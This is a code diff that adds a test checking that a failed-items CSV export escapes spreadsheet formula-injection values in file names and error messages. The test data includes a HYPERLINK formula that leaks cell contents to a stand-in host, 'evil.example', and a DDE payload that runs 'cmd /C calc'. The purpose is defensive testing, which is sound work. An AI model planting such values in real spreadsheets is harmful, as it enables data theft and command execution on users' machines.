@@ -45,4 +45,37 @@ describe('failed-items CSV export', () => {
     expect(statements).toHaveLength(2);
     for (const text of statements) expect(text).not.toMatch(/OFFSET/i);
   });
+
+  it("escapes cells a spreadsheet would run as a formula, from file names and error messages alike", async () => {
+    const { rows } = await env.pool.query<{ id: number }>(
+      "INSERT INTO jobs (kind, state, finished_at) VALUES ('mass-import', 'partial', now()) RETURNING id",
+    );
+    const jobId = rows[0]!.id;
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open").pdf', "+cmd|' /C calc'!A0.pdf", '-2+3.pdf', '@SUM(1+1).pdf', "'=already.pdf", 'plain.pdf'];
+    await env.pool.query(
+      `INSERT INTO import_items (job_id, item_no, relative_path, size_bytes, state, error_code, error_message, error_class, tries)
+       SELECT $1, n - 1, path, 1, 'failed', 'UNREADABLE', CASE WHEN n = 1 THEN '@SUM(1+1)' ELSE 'no' END, 'permanent', 1
+       FROM unnest($2::text[]) WITH ORDINALITY AS input(path, n)`,
+      [jobId, hostile],
+    );
+    const chunks: string[] = [];
+    const out = new Writable({
+      write(chunk: Buffer, _encoding, callback) {
+        chunks.push(chunk.toString('utf8'));
+        callback();
+      },
+    });
+    await writeFailedItemsCsv(env.pool, jobId, out);
+    const records = (parse(chunks.join('')) as string[][]).slice(1);
+    expect(records.map((record) => record[1])).toEqual([
+      `'=HYPERLINK("http://evil.example/?"&A1,"open").pdf`,
+      "'+cmd|' /C calc'!A0.pdf",
+      "'-2+3.pdf",
+      "'@SUM(1+1).pdf",
+      "''=already.pdf",
+      'plain.pdf',
+    ]);
+    expect(records[0]![4]).toBe("'@SUM(1+1)");
+    expect(records[1]![0]).toBe('1');
+  });
 });
